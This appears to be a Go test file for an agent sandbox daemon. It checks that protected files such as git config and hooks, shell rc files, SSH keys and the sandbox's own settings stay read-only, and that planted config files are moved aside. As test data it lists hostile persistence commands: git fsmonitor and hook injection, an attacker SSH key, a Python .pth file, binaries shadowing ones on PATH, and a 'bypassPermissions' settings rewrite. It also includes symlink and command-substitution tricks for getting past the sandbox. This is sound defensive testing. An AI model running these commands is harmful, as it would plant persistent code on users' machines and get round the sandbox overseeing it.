package sandbox

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/sandboxd/sandboxd/internal/errcode"
)

// protectFixture is a caller's home (nobody's) holding a git repository with a local remote,
// shell start-up files and config dirs, as an agent's session would find them.
type protectFixture struct {
	home, repo, remote string
	files              map[string]string // host path -> content that must survive every call
}

func newProtectFixture(t *testing.T) *protectFixture {
	t.Helper()
	base := hostTempDir(t, "/var/tmp", "sbx-protect-")
	os.Chmod(base, 0o755)
	f := &protectFixture{home: filepath.Join(base, "home"), files: map[string]string{}}
	f.repo, f.remote = filepath.Join(f.home, "repo"), filepath.Join(f.home, "remote")
	for _, d := range []string{f.home, f.repo, f.remote, filepath.Join(f.home, ".config", "sandboxd"),
		filepath.Join(f.home, ".config", "git"), filepath.Join(f.home, ".local", "bin"), filepath.Join(f.home, ".ssh"),
		filepath.Join(f.home, ".local", "lib", "python3", "site-packages"), filepath.Join(f.home, ".cargo", "bin")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	hostGit(t, f.remote, "init", "-q")
	os.WriteFile(filepath.Join(f.remote, "R"), []byte("remote\n"), 0o644)
	hostGit(t, f.remote, "add", "R")
	hostGit(t, f.remote, "commit", "-qm", "remote")
	hostGit(t, f.repo, "init", "-q")
	os.WriteFile(filepath.Join(f.repo, "README"), []byte("hello\n"), 0o644)
	hostGit(t, f.repo, "add", "README")
	hostGit(t, f.repo, "commit", "-qm", "init")
	hostGit(t, f.repo, "remote", "add", "origin", f.remote)
	for p, c := range map[string]string{
		filepath.Join(f.home, ".bashrc"):                              "# rc\n",
		filepath.Join(f.home, ".gitconfig"):                           "[user]\n\tname = u\n",
		filepath.Join(f.home, ".config", "sandboxd", "settings.json"): `{"permissions":{}}` + "\n",
		filepath.Join(f.home, ".config", "git", "config"):             "[core]\n",
		filepath.Join(f.home, ".local", "bin", "tool"):                "#!/bin/sh\n",
		filepath.Join(f.home, ".ssh", "authorized_keys"):              "ssh-ed25519 AAAA owner\n",
		filepath.Join(f.home, ".inputrc"):                             "set bell-style none\n",
		filepath.Join(f.home, ".cargo", "env"):                        "export PATH=\"$HOME/.cargo/bin:$PATH\"\n",
		filepath.Join(f.repo, ".envrc"):                               "export A=1\n",
		filepath.Join(f.repo, ".git", "hooks", "pre-commit"):          "#!/bin/sh\nexit 0\n",
	} {
		if err := os.WriteFile(p, []byte(c), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	chownR(t, base)
	for _, p := range []string{".bashrc", ".gitconfig", ".config/sandboxd/settings.json", ".config/git/config",
		"repo/.envrc", "repo/.git/hooks/pre-commit", "repo/.git/config", ".local/bin/tool", ".ssh/authorized_keys", ".inputrc", ".cargo/env"} {
		b, err := os.ReadFile(filepath.Join(f.home, p))
		if err != nil {
			t.Fatal(err)
		}
		f.files[filepath.Join(f.home, p)] = string(b)
	}
	return f
}

// unchanged fails the test for any protected file the call changed on the host.
func (f *protectFixture) unchanged(t *testing.T) {
	t.Helper()
	for p, want := range f.files {
		if b, err := os.ReadFile(p); err != nil || string(b) != want {
			t.Errorf("host file %s changed: %q (%v), want %q", p, b, err, want)
		}
	}
	for _, p := range []string{"repo/.git2", "repo/g", "c2", ".config2"} {
		if _, err := os.Lstat(filepath.Join(f.home, p)); err == nil {
			t.Errorf("%s was renamed away on the host", p)
		}
	}
}

// attack runs script in dir, as a call that moves aside the protected paths it makes, and
// fails the test where it printed ATTACK-WORKED, or did not finish with "done".
func (f *protectFixture) attack(t *testing.T, s *Sandbox, script, dir string, writable ...string) {
	t.Helper()
	sp := f.spec(script, dir, writable...)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	if strings.Contains(out, "ATTACK-WORKED") {
		t.Errorf("an attack worked (res %+v):\n%s", res, out)
	}
}

func (f *protectFixture) spec(script, dir string, writable ...string) *Spec {
	return &Spec{Path: "/bin/bash", Args: []string{"-c", script}, Dir: dir,
		Env: []string{"PATH=/usr/bin:/bin", "HOME=" + f.home, "LANG=C.UTF-8", "GIT_CONFIG_NOSYSTEM=1"},
		UID: nobody, GID: nobody, WritableDirs: writable,
		ProtectedPaths: ProtectedCandidates(writable, dir, f.home), Session: "protect"}
}

// TestProtectedPathsStayReadOnly: with the repository and the whole home writable, every
// write, removal, rename or replacement of a protected path fails in the kernel and the host
// files are unchanged; git's everyday commands still work. On both init paths.
func TestProtectedPathsStayReadOnly(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	attacks := []string{
		`echo '[core] fsmonitor = id' >> .git/config`,
		`cp /dev/null .git/config`,
		`rm -f .git/config`,
		`mv .git .git2`,
		`mv .git/hooks .git/h2`,
		`echo 'id' > .git/hooks/pre-commit`,
		`echo 'id' > .git/hooks/post-checkout`,
		`sed -i s/A/B/ .envrc`,
		`rm -f .envrc`,
		`echo x >> ~/.bashrc`,
		`mv ~/.bashrc ~/c2`,
		`echo x > ~/.gitconfig`,
		`echo '{"permissions":{"defaultMode":"bypassPermissions"}}' > ~/.config/sandboxd/settings.json`,
		`rm -rf ~/.config/sandboxd`,
		`mv ~/.config ~/.config2`,
		`echo x > ~/.config/git/config`,
		`git config core.hooksPath /tmp`,
		// First on a login's PATH: a planted ls would run instead of the real one.
		`echo 'id' > ~/.local/bin/ls`,
		`echo 'id' > ~/.local/bin/tool`,
		// A key let in, under the other name sshd reads; readline bindings typed at the next
		// prompt; a .pth file Python runs at every start.
		`echo 'ssh-ed25519 AAAA attacker' > ~/.ssh/authorized_keys2`,
		`echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys`,
		`echo 'Host *' > ~/.ssh/config`,
		`echo '"\C-m": "id\n"' >> ~/.inputrc`,
		`echo 'import os' > ~/.local/lib/python3/site-packages/evil.pth`,
		// rustup's env, which .profile sources, and the bin dir it puts on PATH.
		`echo id >> ~/.cargo/env`,
		`echo id > ~/.cargo/bin/git`,
	}
	var script strings.Builder
	for i, a := range attacks {
		// Each attack reports "ok N" only if it succeeded.
		fmt.Fprintf(&script, "( %s ) 2>/dev/null && echo 'ATTACK-WORKED %d'\n", a, i)
	}
	const gitc = "git -c user.name=a -c user.email=a@example.invalid -c protocol.file.allow=always"
	script.WriteString(gitc + " fetch -q origin && echo fetched\n")
	script.WriteString("echo y > f && " + gitc + " add f && " + gitc + " commit -qm c && echo committed\n")
	script.WriteString(gitc + " branch b2 && " + gitc + " checkout -q b2 && echo branched\n")
	script.WriteString("echo z >> f && " + gitc + " stash -q && " + gitc + " stash pop -q && echo stashed\n")
	script.WriteString("echo new > new-file && echo created\n")
	for i, pooled := range []bool{true, false} {
		s.noPool.Store(!pooled)
		if pooled {
			waitPoolReady(t, s, 1)
		}
		sp := f.spec(script.String(), f.repo, f.home)
		sp.Call = fmt.Sprintf("c%d", i)
		res, out, err := run(t, s, ctxTimeout(t, 30*time.Second), sp)
		if err != nil {
			t.Fatalf("pooled=%v: %v", pooled, err)
		}
		if strings.Contains(out, "ATTACK-WORKED") {
			t.Errorf("pooled=%v: a write to a protected path worked (res %+v):\n%s", pooled, res, out)
		}
		for _, w := range []string{"fetched", "committed", "branched", "stashed", "created"} {
			if !strings.Contains(out, w) {
				t.Errorf("pooled=%v: git or a plain write broke: no %q in\n%s", pooled, w, out)
			}
		}
		f.unchanged(t)
		hostGit(t, f.repo, "checkout", "-q", "main")
		hostGit(t, f.repo, "branch", "-qD", "b2")
	}
}

// TestProtectedPathLiftedByAllow: a path left out of ProtectedPaths (an allow rule named it)
// is writable again, and nothing else is.
func TestProtectedPathLiftedByAllow(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	sp := f.spec("echo '# ok' >> .git/config && echo wrote-config; echo x >> .envrc || echo envrc-refused", f.repo, f.repo)
	sp.ProtectedPaths = slices.DeleteFunc(sp.ProtectedPaths, func(p string) bool { return p == filepath.Join(f.repo, ".git/config") })
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "wrote-config") || !strings.Contains(out, "envrc-refused") {
		t.Fatalf("want .git/config writable and .envrc not:\n%s", out)
	}
}

// TestGitFileNeverWidens: a ".git" file naming another directory of the caller's (its home)
// does not make that directory writable: the agent writes that file, so it cannot choose what
// becomes writable (it once could, and then wrote ~/.bashrc).
func TestGitFileNeverWidens(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	work := filepath.Join(f.home, "work")
	os.Mkdir(work, 0o755)
	os.WriteFile(filepath.Join(work, ".git"), []byte("gitdir: "+f.home+"\n"), 0o644)
	chownR(t, work)
	cs := planOf(t, s, *f.spec("true", work, work))
	for _, m := range cs.mounts {
		if m.op == opSetattr && m.setattr.clr != 0 && (m.path == f.home || under(work, m.path) && m.path != work) {
			t.Fatalf("a writable mount %s from the .git file", m.path)
		}
	}
	sp := f.spec("echo x >> ~/.bashrc && echo WROTE; echo y > ~/newfile && echo WROTE2; true", work, work)
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "WROTE") {
		t.Fatalf("the .git file widened the writable set:\n%s", out)
	}
	f.unchanged(t)
}

// TestReadOnlyCallWritesNothing: a call allowed because it only reads (ReadOnlyWorkspace)
// cannot write its session dirs, whatever it runs; its private /tmp stays writable.
func TestReadOnlyCallWritesNothing(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	script := `printf -v 'a[$(echo x > pwn)]' %s 1 2>/dev/null; touch made 2>/dev/null && echo WROTE;
echo t > /tmp/scratch && cat /tmp/scratch; git status --short >/dev/null 2>&1 && echo git-status-ok`
	sp := f.spec(script, f.repo, f.repo)
	sp.ReadOnlyWorkspace, sp.Call = true, "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "WROTE") || !strings.Contains(out, "t\n") || !strings.Contains(out, "git-status-ok") {
		t.Fatalf("want no write, /tmp writable, git status working:\n%s", out)
	}
	for _, p := range []string{"pwn", "made"} {
		if _, err := os.Lstat(filepath.Join(f.repo, p)); err == nil {
			t.Errorf("%s was written on the host by a read-only call", p)
		}
	}
}

// TestHidePatterns: Read deny patterns hide their matches in the session's dirs, at any
// depth, from every program; other files stay readable.
func TestHidePatterns(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	sub := filepath.Join(f.repo, "a", "b")
	deep := filepath.Join(f.repo, "d1", "d2", "d3", "d4", "d5", "d6", "d7")
	os.MkdirAll(sub, 0o755)
	os.MkdirAll(deep, 0o755)
	for _, p := range []string{filepath.Join(f.repo, ".env"), filepath.Join(sub, ".env"), filepath.Join(deep, ".env")} {
		os.WriteFile(p, []byte("SECRET=1\n"), 0o644)
	}
	chownR(t, f.repo)
	sp := f.spec("cat .env a/b/.env README; grep -r SECRET . ; cp a/b/.env /tmp/x && cat /tmp/x; python3 -c 'print(open(\".env\").read())'; true", f.repo, f.repo)
	sp.HidePatterns = []string{"/**/.env"}
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "SECRET") || !strings.Contains(out, "hello") {
		t.Fatalf("a denied .env was readable, or README was not:\n%s", out)
	}
}

// TestHiddenFilesStayPut: a call cannot move a hidden file's dirs (to where the next call's
// rule does not name it, or deeper), by a literal deny path or a pattern; other renames work.
func TestHiddenFilesStayPut(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	for _, d := range []string{"secrets/prod", "q/r"} {
		os.MkdirAll(filepath.Join(f.repo, d), 0o755)
	}
	os.WriteFile(filepath.Join(f.repo, "secrets", "prod", "key"), []byte("KEY\n"), 0o644)
	os.WriteFile(filepath.Join(f.repo, "q", "r", ".env"), []byte("SECRET=1\n"), 0o644)
	os.WriteFile(filepath.Join(f.repo, "plain"), []byte("x\n"), 0o644)
	chownR(t, f.repo)
	sp := f.spec("mv secrets s2 || echo refused-1; mv secrets/prod p2 || echo refused-2; mkdir -p x/y/z/w && { mv q x/y/z/w/q || echo refused-3; }; mv q/r r2 || echo refused-4; mv plain plain2 && echo renamed", f.repo, f.repo)
	sp.DenyPaths = append(sp.DenyPaths, filepath.Join(f.repo, "secrets", "prod", "key"))
	sp.HidePatterns = []string{"/**/.env"}
	sp.Call = "c"
	_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{"refused-1", "refused-2", "refused-3", "refused-4", "renamed"} {
		if !strings.Contains(out, w) {
			t.Errorf("no %q in:\n%s", w, out)
		}
	}
	for _, p := range []string{"secrets/prod/key", "q/r/.env"} {
		if _, err := os.Stat(filepath.Join(f.repo, p)); err != nil {
			t.Errorf("%s moved on the host: %v", p, err)
		}
	}
}

// TestPatternWalkBoundsItsChecks: many patterns over a tree cost the daemon a check per entry
// and pattern on every call; past maxPatternChecks the expansion fails (the call is refused
// with why) instead of spending seconds of the daemon's CPU, and fewer patterns still expand.
func TestPatternWalkBoundsItsChecks(t *testing.T) {
	base := hostTempDir(t, "/var/tmp", "sbx-checks-")
	for i := 0; i < 40; i++ {
		os.MkdirAll(filepath.Join(base, fmt.Sprintf("d%d", i)), 0o755)
	}
	var pats []string
	for i := 0; i < 10; i++ {
		pats = append(pats, escapePattern(base)+fmt.Sprintf("/**/*.zz%d", i))
	}
	old := maxPatternChecks
	maxPatternChecks = 200
	defer func() { maxPatternChecks = old }()
	if _, err := expandPatterns(newFSView(), pats, []string{base}, 0, patternWalk{}); err == nil || !strings.Contains(err.Error(), "checks") {
		t.Errorf("10 patterns over 41 entries with a budget of 200 checks: %v, want refused", err)
	}
	if _, err := expandPatterns(newFSView(), pats[:2], []string{base}, 0, patternWalk{}); err != nil {
		t.Errorf("2 patterns over 41 entries: %v", err)
	}
	maxPatternChecks = old
	// Few checks, each costly: `*` and 3 000 `?` against long names. Bounded by the CPU
	// the walk takes, not by the count.
	long := strings.Repeat("n", 250)
	for i := 0; i < 1000; i++ {
		os.WriteFile(filepath.Join(base, fmt.Sprintf("%s%04d", long, i)), nil, 0o644)
	}
	slow := []string{escapePattern(base) + "/**/*" + strings.Repeat("?", 3000) + "Z"}
	var err error
	if cerr := asCaller(0, 0, nil, func() { _, err = expandPatterns(newFSView(), slow, []string{base}, 0, patternWalk{}) }); cerr != nil {
		t.Fatal(cerr)
	}
	if err == nil || !strings.Contains(err.Error(), "CPU") {
		t.Errorf("a pattern costing ms a check over 1 000 long names: %v, want refused for its CPU", err)
	}
}

// TestWalkShareBoundsAUsersWalks: one user's pattern walks together take at most their share
// of the daemon's CPU: past it that user's next bounded walk is refused at once (rate_limited,
// saying when to retry) instead of walking to its bound, another user's still walks, root's
// is not held, and the sweep after a call (unbounded) still walks, its cost owed.
func TestWalkShareBoundsAUsersWalks(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("walks as other users need root")
	}
	base := hostTempDir(t, "/var/tmp", "sbx-share-")
	os.Chmod(base, 0o755)
	for i := 0; i < 200; i++ {
		os.MkdirAll(filepath.Join(base, fmt.Sprintf("d%d/e", i)), 0o755)
	}
	pat := []string{escapePattern(base) + "/**/.env"}
	old := walkShare
	walkShare = newCPUShare(0.0001, time.Microsecond) // a walk's first µs spends it all
	defer func() { walkShare = old }()
	walk := func(uid uint32, how patternWalk) error {
		var err error
		if cerr := asCaller(uid, uid, nil, func() { _, err = expandPatterns(newFSView(), pat, []string{base}, uid, how) }); cerr != nil {
			t.Fatal(cerr)
		}
		return err
	}
	if err := walk(nobody, patternWalk{}); err != nil {
		t.Fatalf("a first walk: %v", err)
	}
	err := walk(nobody, patternWalk{})
	if errcode.Of(errcode.Setup(err)) != errcode.RateLimited || !strings.Contains(fmt.Sprint(err), "retry in") {
		t.Errorf("a walk over the user's share: %v, want rate_limited with when to retry", err)
	}
	if err := walk(nobody-1, patternWalk{}); err != nil {
		t.Errorf("another user's walk: %v", err)
	}
	if err := walk(0, patternWalk{}); err != nil {
		t.Errorf("root's walk: %v", err)
	}
	// The sweep after a call walks whole over the share, but pauses for what its user owes:
	// its cost is the call's time, not the daemon's.
	for i := 0; i < 200; i += 50 {
		os.WriteFile(filepath.Join(base, fmt.Sprintf("d%d/e/.env", i)), nil, 0o644)
	}
	oldSlice, oldPause := walkSlice, walkPause
	var paused time.Duration
	walkSlice, walkPause = 0, func(d time.Duration) { paused += d }
	defer func() { walkSlice, walkPause = oldSlice, oldPause }()
	var found []string
	if cerr := asCaller(nobody, nobody, nil, func() {
		found, err = expandPatterns(newFSView(), pat, []string{base}, nobody, patternWalk{unbounded: true})
	}); cerr != nil {
		t.Fatal(cerr)
	}
	if err != nil || len(found) != 4 {
		t.Errorf("the sweep after a call, over the share: %v, %d matches, want it walked whole (4)", err, len(found))
	}
	if paused == 0 {
		t.Error("the sweep after a call over its user's share did not pause")
	}
	walkSlice, walkPause = oldSlice, oldPause
	// Walks started at once each take their bound first: a burst of a second lets four of
	// 300 ms start, not all of them.
	r := newCPUShare(0.001, time.Second)
	started := 0
	for range 16 {
		if r.reserve(5, maxPatternCPU) == 0 {
			started++
		}
	}
	if started != 4 {
		t.Errorf("walks started at once within a 1 s burst: %d, want 4", started)
	}
	// One user's unbounded walks go one at a time; another user's do not wait for them.
	release := unboundedWalks.lock(7)
	second := make(chan struct{})
	go func() { unboundedWalks.lock(7)(); close(second) }()
	otherDone := make(chan struct{})
	go func() { unboundedWalks.lock(8)(); close(otherDone) }()
	<-otherDone
	select {
	case <-second:
		t.Error("a user's second unbounded walk went on beside the first")
	case <-time.After(50 * time.Millisecond):
	}
	release()
	<-second
	if n := len(unboundedWalks.locks); n != 0 {
		t.Errorf("%d locks kept after use", n)
	}
	// Refilled over time; an account never holds more than the burst.
	s := newCPUShare(1, 10*time.Millisecond)
	s.charge(7, 30*time.Millisecond)
	if w := s.wait(7); w < 15*time.Millisecond || w > 20*time.Millisecond {
		t.Errorf("owing 20 ms at 1 CPU-s/s: wait %v, want about 20 ms", w)
	}
	time.Sleep(25 * time.Millisecond)
	if w := s.wait(7); w != 0 {
		t.Errorf("after the debt's time: wait %v", w)
	}
	if a := s.account(7, time.Now().Add(time.Hour)); a.left != 10*time.Millisecond {
		t.Errorf("an hour later: %v left, want the burst", a.left)
	}
}

// TestPatternWalkIsComplete: a walk that cannot see everything (too many entries, a dir of the
// caller's it cannot read) fails rather than leave a match unseen; another user's unreadable
// dir is skipped, as the call cannot look inside either.
func TestPatternWalkIsComplete(t *testing.T) {
	t.Parallel()
	base := hostTempDir(t, "/var/tmp", "sbx-walk-")
	os.Chmod(base, 0o755)
	for _, d := range []string{"a/b/c/d/e/f", "mine", "theirs"} {
		os.MkdirAll(filepath.Join(base, d), 0o755)
	}
	os.WriteFile(filepath.Join(base, "a/b/c/d/e/f/.env"), nil, 0o644)
	pat := []string{escapePattern(base) + "/**/.env"}
	got, err := expandPatterns(newFSView(), pat, []string{base}, 0, patternWalk{})
	if err != nil || len(got) != 1 || got[0] != filepath.Join(base, "a/b/c/d/e/f/.env") {
		t.Fatalf("expand: %v %v, want the deep .env", got, err)
	}
	w := &treeWalk{budget: 5, visit: func(string, string, bool) bool { return true }}
	if err := w.walk(base); !errors.Is(err, errWalkBudget) {
		t.Errorf("a walk over its budget: %v, want errWalkBudget", err)
	}
	if os.Geteuid() != 0 {
		t.Skip("the unreadable-dir cases need root (a dir unreadable to its own owner, and another owner)")
	}
	os.Chmod(filepath.Join(base, "mine"), 0)
	os.Chown(filepath.Join(base, "mine"), nobody, nobody)
	os.Chmod(filepath.Join(base, "theirs"), 0)
	var errMine error
	if err := asCaller(nobody, nobody, nil, func() { _, errMine = expandPatterns(newFSView(), pat, []string{base}, nobody, patternWalk{}) }); err != nil {
		t.Fatal(err)
	}
	if errMine == nil || !errors.Is(errMine, ErrBadSpec) || !strings.Contains(errMine.Error(), "mine") {
		t.Errorf("a dir of the caller's it cannot read: %v, want a refusal naming it", errMine)
	}
	os.Chown(filepath.Join(base, "mine"), 0, 0)
	var errTheirs error
	if err := asCaller(nobody, nobody, nil, func() { _, errTheirs = expandPatterns(newFSView(), pat, []string{base}, nobody, patternWalk{}) }); err != nil {
		t.Fatal(err)
	}
	if errTheirs != nil {
		t.Errorf("other users' unreadable dirs: %v, want them skipped", errTheirs)
	}
}

// TestUnsearchableOwnDirRefused: a protected or hidden path behind a dir of the caller's that
// the caller cannot search (chmod 000 .git in one call) is not taken for missing, since the
// next call could chmod the dir back and write or read there: the call is refused. Behind
// someone else's such dir it is out of the call's reach, and the call runs.
func TestUnsearchableOwnDirRefused(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	for _, tc := range []struct {
		name  string
		setup func(f *protectFixture) string // returns the deny path to add, if any
		owner int
		want  string
	}{
		{"protected, own dir", func(f *protectFixture) string { return "" }, nobody, ".git"},
		{"hidden, own dir", func(f *protectFixture) string {
			os.MkdirAll(filepath.Join(f.repo, "secrets"), 0o755)
			os.WriteFile(filepath.Join(f.repo, "secrets", "key"), []byte("KEY\n"), 0o644)
			return filepath.Join(f.repo, "secrets", "key")
		}, nobody, "secrets"},
		{"hidden, another's dir", func(f *protectFixture) string {
			os.MkdirAll(filepath.Join(f.repo, "secrets"), 0o755)
			return filepath.Join(f.repo, "secrets", "key")
		}, 0, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newProtectFixture(t)
			deny := tc.setup(f)
			locked := filepath.Join(f.repo, tc.want)
			if tc.want == "" {
				locked = filepath.Join(f.repo, "secrets")
			}
			os.Chown(locked, tc.owner, tc.owner)
			os.Chmod(locked, 0)
			defer os.Chmod(locked, 0o755)
			sp := f.spec("echo ran", f.repo, f.repo)
			if deny != "" {
				sp.DenyPaths = append(sp.DenyPaths, deny)
			}
			sp.Call = "c"
			_, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
			if tc.want == "" {
				if err != nil || !strings.Contains(out, "ran") {
					t.Fatalf("behind another user's dir: %v %q, want the call to run", err, out)
				}
				return
			}
			// Named as the dir that cannot be searched, or as the git config in it that
			// cannot be read.
			if !errors.Is(err, ErrBadSpec) || !strings.Contains(err.Error(), locked+",") && !strings.Contains(err.Error(), locked+"/") {
				t.Fatalf("behind the caller's own unsearchable %s: %v %q, want a refusal naming it", tc.want, err, out)
			}
		})
	}
}

// TestMoveAsideCreated: a protected path that did not exist when the call started, made by it
// (in a way no decision saw), is moved aside once the call has ended, whatever it is (a dir,
// a file, a symlink, beneath a dir the call made); anything else the call made stays, and a
// new repository's .git stays whole. Without MoveAsideCreated nothing moves.
func TestMoveAsideCreated(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	const script = `d=.cla; mkdir ${d}ude && echo '{"hooks":{}}' > ${d}ude/settings.json; ln -s /tmp .vscode; echo '{}' > .mcp.json; ` +
		`echo x > .gitmodules; mkdir sub && echo kept > sub/file; mkdir .git/hooks2; ` +
		`mkdir -p .cargo .mvn/wrapper && echo x > .cargo/config.toml && echo x > .mvn/wrapper/maven-wrapper.properties; ` +
		`mkdir -p .hg/store .jj/repo && echo '[hooks]' > .hg/hgrc && echo x > .hg/store/kept && echo x > .jj/repo/config.toml; ` +
		`mkdir newrepo && cd newrepo && git init -q . && cd .. && echo done`
	for _, guard := range []bool{true, false} {
		f := newProtectFixture(t)
		sp := f.spec(script, f.repo, f.repo)
		sp.MoveAsideCreated = guard
		sp.Call = "c1"
		res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
		if err != nil || !strings.Contains(out, "done") {
			t.Fatalf("guard %v: %v %q", guard, err, out)
		}
		made := []string{".claude", ".vscode", ".mcp.json", ".gitmodules", ".cargo/config.toml", ".mvn/wrapper/maven-wrapper.properties",
			".hg/hgrc", ".jj/repo/config.toml"}
		if !guard {
			if len(res.MovedAside) != 0 {
				t.Errorf("without the guard, moved %v", res.MovedAside)
			}
			continue
		}
		var want []string
		for _, m := range made {
			want = append(want, filepath.Join(f.repo, m))
			if _, err := os.Lstat(filepath.Join(f.repo, m)); err == nil {
				t.Errorf("%s is still there", m)
			}
			if _, err := os.Lstat(filepath.Join(f.repo, m+BlockedSuffix+"c1")); err != nil {
				t.Errorf("%s was not moved aside: %v", m, err)
			}
		}
		slices.Sort(want)
		got := slices.Sorted(slices.Values(res.MovedAside))
		if !slices.Equal(got, want) {
			t.Errorf("MovedAside %v, want %v", got, want)
		}
		for _, p := range []string{"sub/file", ".git/hooks2", "newrepo/.git/config", "newrepo/.git/hooks", ".envrc", ".hg/store/kept"} {
			if _, err := os.Lstat(filepath.Join(f.repo, p)); err != nil {
				t.Errorf("%s should have stayed: %v", p, err)
			}
		}
	}
}

// TestMoveAsideKeepsApproved: in a call a person approved, the protected paths it was seen to
// write by their own name (KeepCreated) stay when made regular files; what else it makes at
// protected paths is moved aside as in any call: a protected dir made to hold a kept file, and
// a kept name made a dir (what it holds went unseen) or a link.
func TestMoveAsideKeepsApproved(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	const script = `mkdir .claude && echo '{}' > .claude/settings.json && echo '{}' > .mcp.json && echo x > .gitmodules; ` +
		`d=.vsc; mkdir ${d}ode && echo '{}' > ${d}ode/tasks.json; mkdir .cargo && echo x > .cargo/config.toml; ln -s /tmp .idea; echo done`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated, sp.Call = true, "c1"
	sp.KeepCreated = []string{filepath.Join(f.repo, ".claude/settings.json"), filepath.Join(f.repo, "sub/../.mcp.json"),
		filepath.Join(f.repo, ".gitmodules"), filepath.Join(f.repo, ".vscode"), filepath.Join(f.repo, ".idea")}
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, kept := range []string{".mcp.json", ".gitmodules"} {
		if _, err := os.Lstat(filepath.Join(f.repo, kept)); err != nil {
			t.Errorf("%s was approved and should have stayed: %v", kept, err)
		}
	}
	want := []string{filepath.Join(f.repo, ".cargo/config.toml"), filepath.Join(f.repo, ".claude"), filepath.Join(f.repo, ".idea"), filepath.Join(f.repo, ".vscode")}
	if got := slices.Sorted(slices.Values(res.MovedAside)); !slices.Equal(got, want) {
		t.Errorf("MovedAside %v, want %v", got, want)
	}
}

// TestMoveAsideLinkOnTheWay: a call that makes a protected path's name reachable through a
// symlink it made on the way (`ln -s c .cargo` with c/config.toml; the cwd's dir swapped for a
// link to a dir holding a new repository whose config names core.fsmonitor) does not keep it:
// the user's cargo and git follow the link, so the link is moved aside. A link that was there
// before the call stays, and what the call made where it leads goes.
func TestMoveAsideLinkOnTheWay(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	sub := filepath.Join(f.repo, "sub")
	if err := os.MkdirAll(filepath.Join(f.repo, "old"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("old", filepath.Join(f.repo, ".mvn")); err != nil {
		t.Fatal(err)
	}
	chownR(t, f.repo)
	time.Sleep(50 * time.Millisecond) // the fixture's link is older than the call
	const script = `mkdir ../c && echo '[build] rustc-wrapper = "/x"' > ../c/config.toml && ln -s c ../.cargo && ` +
		`echo '-Dx=1' > ../old/jvm.config && ` +
		`cd .. && mv sub real && ln -s real sub && git init -q real && git -C real config core.fsmonitor id && echo done`
	sp := f.spec(script, sub, f.repo)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "done") {
		t.Fatalf("%v %q", err, out)
	}
	for _, p := range []string{".cargo", "sub"} {
		if _, err := os.Lstat(filepath.Join(f.repo, p)); err == nil {
			t.Errorf("the link %s the call made is still there", p)
		}
		if !slices.Contains(res.MovedAside, filepath.Join(f.repo, p)) {
			t.Errorf("MovedAside %v, want %s in it", res.MovedAside, p)
		}
	}
	if fi, err := os.Lstat(filepath.Join(f.repo, ".mvn")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the user's own link .mvn was moved: %v", err)
	}
	// What the call made behind the user's link, where .mvn/jvm.config leads, goes.
	if _, err := os.Lstat(filepath.Join(f.repo, "old", "jvm.config")); err == nil {
		t.Error("old/jvm.config, reached as .mvn/jvm.config through the user's link, is still there")
	}
}

// TestMoveAsideWhileRunning: what a call makes at a protected path is moved aside while the
// call still runs (a long call, a background task), and again when made again.
func TestMoveAsideWhileRunning(t *testing.T) {
	t.Parallel()
	s := newTestSandbox(t, Config{})
	f := newProtectFixture(t)
	const script = `echo a > .mcp.json; for i in $(seq 50); do [ -e .mcp.json ] || break; sleep 0.1; done; ` +
		`[ -e .mcp.json ] && echo still-there || echo moved-while-running; echo done; echo b > .mcp.json`
	sp := f.spec(script, f.repo, f.repo)
	sp.MoveAsideCreated = true
	sp.Call = "c1"
	res, out, err := run(t, s, ctxTimeout(t, 20*time.Second), sp)
	if err != nil || !strings.Contains(out, "moved-while-running") || !strings.Contains(out, "done") {
		t.Fatalf("%v %q, want the file moved while the call ran", err, out)
	}
